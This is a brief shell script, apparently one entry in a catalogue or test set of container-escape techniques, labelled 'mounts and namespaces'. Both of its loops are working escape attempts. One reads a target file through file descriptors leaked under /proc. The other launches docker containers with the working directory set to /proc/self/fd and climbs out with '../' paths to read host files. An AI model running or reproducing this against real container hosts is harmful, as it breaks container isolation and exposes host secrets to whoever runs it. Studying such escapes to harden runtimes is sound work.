# Category: mounts and namespaces
# Escape: climbs out through a directory that the runtime left open when it came in.
# Sign: secret
for directory in /proc/[0-9]*/fd/*; do [ -d "$directory" ] && cat "$directory/../../../../../../../..$FILE" "$directory$FILE" 2>/dev/null; done
for number in 3 4 5 6 7 8 9; do docker run --rm -w "/proc/self/fd/$number" tools cat "../../../../../..$FILE" 2>/dev/null & done
wait
